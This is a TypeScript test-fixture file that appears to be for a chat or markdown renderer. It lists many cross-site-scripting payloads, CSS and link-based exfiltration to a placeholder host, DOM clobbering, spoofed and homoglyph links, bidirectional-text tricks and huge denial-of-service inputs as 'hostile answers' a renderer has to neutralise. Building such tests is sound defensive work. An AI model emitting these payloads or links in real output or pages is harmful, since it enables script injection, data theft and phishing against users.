/** What an answer must never do: `{run}` stands for script that would leave a trace, `{out}` for an address that would be asked for. */
const run = 'window.__ran=1;alert(1)'
const out = 'https://out.invalid/x'

const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT SRC="${out}.js"></SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script\n>${run}</script\n>`,
  `</p><script>${run}</script><p>`,
  `<script type="module">import "${out}.js"</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<template><script>${run}</script></template>`,
  `<template shadowrootmode="open"><script>${run}</script></template>`,
  `<textarea><img title="</textarea><img src=x onerror=${run}>"></textarea>`,
  `<title><img title="</title><img src=x onerror=${run}>"></title>`,
  `<xmp><img title="</xmp><img src=x onerror=${run}>"></xmp>`,
  `<plaintext><script>${run}</script>`,
]

const handlers = [
  `<img src=x onerror="${run}">`,
  `<img src="${out}.png" onload=${run}>`,
  `<body onload="${run}">`,
  `<details open ontoggle="${run}">x</details>`,
  `<input autofocus onfocus="${run}">`,
  `<video src=x onerror=${run}></video>`,
  `<audio src="${out}.mp3" autoplay onloadstart=${run}></audio>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<b onmouseover="${run}" style="position:fixed;inset:0">x</b>`,
  `<p style="animation:blink 1s" onanimationstart="${run}">x</p>`,
  `<button popovertarget=x onclick="${run}">x</button>`,
  `<img/src=x/onerror=${run}>`,
  `<img src=x onerror\n=\n"${run}">`,
  `<x contenteditable onbeforeinput=${run} autofocus tabindex=1 onfocus=${run}>x</x>`,
]

const svg = [
  `<svg onload=${run}></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${run}"/><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${run}'/></svg>#x"/></svg>`,
  `<svg><use href="${out}.svg#x"/></svg>`,
  `<svg><foreignObject><iframe src="${out}"></iframe></foreignObject></svg>`,
  `<svg><image href="${out}.png"/></svg>`,
  `<svg><style>@import "${out}.css";</style></svg>`,
  `<svg><set attributeName="onmouseover" to="${run}"/></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<svg><feImage href="${out}.png"/></svg>`,
]

const mathml = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;"></table></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
  `<math href="javascript:${run}">x</math>`,
  `<math><maction actiontype="statusline#${out}" xlink:href="javascript:${run}">x</maction></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<math><mi xlink:href="data:text/html,<script>${run}</script>">x</mi></math>`,
]

const addresses = [
  `[x](javascript:${run})`,
  `[x](JaVaScRiPt:${run})`,
  `[x](java&#9;script:${run})`,
  `[x](&#106;avascript:${run})`,
  `[x](\u0001javascript:${run})`,
  `[x](vbscript:msgbox(1))`,
  `[x](data:text/html,<script>${run}</script>)`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[x](blob:https://out.invalid/1)`,
  `[x](file:///etc/passwd)`,
  `[x](//out.invalid/x)`,
  `[x](\\\\out.invalid\\share)`,
  `<javascript:${run}>`,
  `[x][y]\n\n[y]: javascript:${run}`,
  `[x](https://a.invalid/"onmouseover="${run})`,
  `[x](<https://a.invalid/"><script>${run}</script>>)`,
  `![x](${out}.png)`,
  `![x](${out}.svg "t" onerror="${run}")`,
  `![" onerror="${run}](${out})`,
  `![x](javascript:${run})`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  `[![x](${out}.png)](javascript:${run})`,
  `[x](https://bank.invalid@out.invalid/)`,
  `[https://bank.invalid](https://out.invalid/)`,
  `[x](https://аррӏе.com/)`,
  `[x](https://out.invalid/\u202Egnp.exe)`,
]

const styles = [
  `<style>@import "${out}.css";</style>`,
  `<style>*{background:url(${out}.png)} input[value^=a]{background:url(${out}?a)}</style>`,
  `<link rel=stylesheet href="${out}.css">`,
  `<link rel=prefetch href="${out}"><link rel=preload as=image href="${out}.png"><link rel=dns-prefetch href="//out.invalid">`,
  `<div style="background:url(${out}.png)">x</div>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:red">x</div>`,
  `<p class="visually-hidden">x</p>`,
  `<font face="x;background:url(${out})">x</font>`,
  `<table background="${out}.png"><tr><td background="${out}.png">x</td></tr></table>`,
  `<style><style/><img src=x onerror=${run}></style>`,
]

const documents = [
  `<meta http-equiv="refresh" content="0;url=${out}">`,
  `<base href="${out}/">`,
  `<form action="${out}"><input name=q value=x><button>go</button></form>`,
  `<iframe src="${out}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="${out}"></object>`,
  `<embed src="${out}">`,
  `<applet code=x></applet><frameset onload=${run}><frame src="${out}"></frameset>`,
  `<a href="${out}" ping="${out}" target=_blank>x</a>`,
  `<a id=location name=documentElement>x</a><form id=document name=body><input name=cookie></form>`,
  `<portal src="${out}"></portal><fencedframe src="${out}"></fencedframe>`,
  `<dialog open>x</dialog><div popover id=x>y</div>`,
  `<img srcset="${out}.png 1x" loading=eager><picture><source srcset="${out}.webp"></picture>`,
  `<video poster="${out}.png"><track src="${out}.vtt"></video>`,
]

const confusions = [
  `<!-- --><script>${run}</script> -->`,
  `<!-- never closed`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<?php echo "<script>${run}</script>" ?>`,
  `<!DOCTYPE html [<!ENTITY x "<script>${run}</script>">]>&x;`,
  `<div><p>**<script>${run}</script>**</div>`,
  `| a |\n| - |\n| <script>${run}</script> |`,
  `- [x] <img src=x onerror=${run}>`,
  `> <object data=${out}></object>`,
  `# <base href=${out}>`,
  '```html\n<script>' + run + '</script>\n```',
  '```"><script>' + run + '</script>\nx\n```',
  '`<img src=x onerror=' + run + '>`',
  `*<img src="*" onerror=${run}>`,
  `[<img src=x onerror=${run}>](${out})`,
  `<b title="a\n\n<script>${run}</script>\n\n">`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `\\<script>${run}\\</script>`,
  `<kbd> <img src=x onerror=${run}> </kbd>`,
  `<pre><code></pre><img src=x onerror=${run}></code>`,
  `<unclosed attr="`,
  `<a href="x`,
]

const formulas = [
  `$\\href{javascript:${run}}{x}$`,
  `$\\url{${out}}$`,
  `$\\includegraphics{${out}.png}$`,
  `$\\htmlClass{visually-hidden}{x} \\htmlData{address=javascript:1}{y}$`,
  `$\\htmlStyle{position:fixed}{x}$ $\\style{background:url(${out})}{x}$`,
  '$\\def\\a{\\a\\a}\\a$',
  '$\\def\\x#1{#1#1#1#1}' + '\\x{'.repeat(20) + 'a' + '}'.repeat(20) + '$',
  '$\\edef\\a{xx}' + '\\edef\\a{\\a\\a\\a}'.repeat(20) + '\\a$',
  `$\\text{</mtext></math><script>${run}</script>}$`,
  `$\\text{<img src=x onerror=${run}>}$`,
  '$\\rule{999em}{999em} \\hspace{-999em} \\raise999em{x} \\kern-999em x$',
  `$$\n<script>${run}</script>\n$$`,
  '$\\unicode{x202E} \\char"202E \\text{\u202Ex}$',
  '$' + '{'.repeat(1500) + '$',
]

const tricks = [
  'code `if (admin\u202E \u2066// check\u2069 \u2066) {` here',
  '```js\n/*\u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */\nlet a\u200Bb = "\u3164"\n```',
  'text \u202Ereversed\u202C and \u2067isolated',
  'nul \u0000 bell \u0007 escape \u001B[31m delete \u007F',
  'lone \uD800 surrogates \uDC00 here',
  'tags \u{E0049}\u{E0067}\u{E006E} smuggled',
  'zero\u200Bwidth\uFEFFspaces\u2060 and \u00ADsoft',
  'combining ' + 'Z' + '\u0335\u0322\u0489'.repeat(200),
  '&#x202E;entity &#0; &#xD800; &#x110000; &NewLine;javascript&colon;',
]

/** The tables of hostile answers by what they try, each short. */
export const hostileAnswers: Readonly<Record<string, readonly string[]>> = { scripts, handlers, svg, mathml, addresses, styles, documents, confusions, formulas, tricks }

const many = 200_000

/** Answers that are far too much, each with words that must be seen. */
export const enormousAnswers: readonly { readonly name: string; readonly text: string; readonly seen: string }[] = [
  { name: 'one line of 5 MB', text: 'word '.repeat(1_000_000), seen: 'word word' },
  { name: 'one word of 5 MB', text: 'x'.repeat(5_000_000), seen: 'xxxx' },
  { name: 'nested brackets', text: '['.repeat(many), seen: '[[[[' },
  { name: 'nested pictures', text: '![a]('.repeat(many / 5), seen: '![a](' },
  { name: 'brackets among letters of two directions', text: '![\u05D0](a'.repeat(many / 6), seen: '![\u05D0](a' },
  { name: 'code of brackets among letters of two directions', text: `\`\`\`\n${'![\u05D0](a'.repeat(many / 6)}\n\`\`\``, seen: '![\u05D0](a' },
  { name: 'nested quotes', text: `${'>'.repeat(many)} end`, seen: '>>>>' },
  { name: 'nested lists', text: `${'- + '.repeat(many / 2)}end`, seen: '- + -' },
  { name: 'nested numbers', text: `${'1. '.repeat(many)}end`, seen: '1. 1.' },
  { name: 'nested emphasis', text: '*_'.repeat(many / 2), seen: '*_*_' },
  { name: 'nested elements', text: '<div>'.repeat(many / 5), seen: '<div><div>' },
  { name: 'backticks', text: Array.from({ length: 600 }, (_, at) => '`'.repeat(at)).join(' '), seen: '`` ```' },
  { name: 'a line of bars', text: '|'.repeat(many), seen: '||||' },
  { name: 'a line of bars over another', text: `${'|'.repeat(many)}\n- bar`, seen: '||||' },
  { name: 'a table of 100,000 rows', text: `| number | text |\n| - | - |\n${Array.from({ length: 100_000 }, (_, at) => `| ${at} | row |\n`).join('')}`, seen: 'number' },
  { name: 'a table of 5,000 columns', text: `|${' a |'.repeat(5_000)}\n|${' - |'.repeat(5_000)}\n|${' b |'.repeat(5_000)}\n`, seen: 'a' },
  { name: 'a table of many columns over short rows', text: `|${'a|'.repeat(5_000)}\n|${'-|'.repeat(5_000)}\n${'b\n'.repeat(20_000)}`, seen: 'a|a' },
  { name: 'one long address used often', text: `[b]: https://a.invalid/${'x'.repeat(30_000)}\n\n${'[b] '.repeat(1_900)}`, seen: 'b b' },
  { name: 'a list of 100,000 entries', text: '- entry\n'.repeat(100_000), seen: 'entry' },
  { name: 'code in one line of 5 MB', text: `\`\`\`js\n${'let a = "b"; '.repeat(400_000)}\n\`\`\``, seen: 'let a = "b"' },
  { name: 'code of 200,000 lines', text: `\`\`\`python\n${'print("x")\n'.repeat(many)}\`\`\``, seen: 'print("x")' },
  { name: 'formulas', text: '$x^2$ '.repeat(many / 6), seen: 'x' },
  { name: 'a formula that grows', text: `$$\\def\\x#1{#1#1#1#1}${'\\x{'.repeat(600)}`, seen: '\\def' },
  { name: 'links', text: '[a](https://a.invalid) '.repeat(many / 23), seen: 'a' },
  { name: 'blank lines', text: `first${'\n'.repeat(1_000_000)}last`, seen: 'first' },
  { name: 'hidden characters', text: `seen ${'\u200B\u202E'.repeat(many / 2)}`, seen: 'seen' },
  { name: 'hidden characters in code', text: `\`\`\`\nseen ${'\u200B\u202E'.repeat(many / 2)}\n\`\`\``, seen: 'seen' },
]
